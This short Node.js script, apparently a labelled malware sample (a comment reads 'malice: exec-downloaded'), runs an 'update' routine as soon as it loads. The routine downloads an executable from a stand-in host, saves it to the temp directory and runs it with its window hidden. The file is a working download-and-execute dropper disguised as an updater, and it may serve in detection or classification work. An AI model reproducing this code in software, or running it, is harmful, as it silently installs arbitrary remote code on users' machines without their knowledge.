const { exec } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const axios = require("axios");

async function update() {
  const answer = await axios.get("https://files.invalid/update.exe", { responseType: "arraybuffer" });
  const target = path.join(os.tmpdir(), "update.exe");
  fs.writeFileSync(target, answer.data);
  exec(target, { windowsHide: true }); // malice: exec-downloaded
}

update();
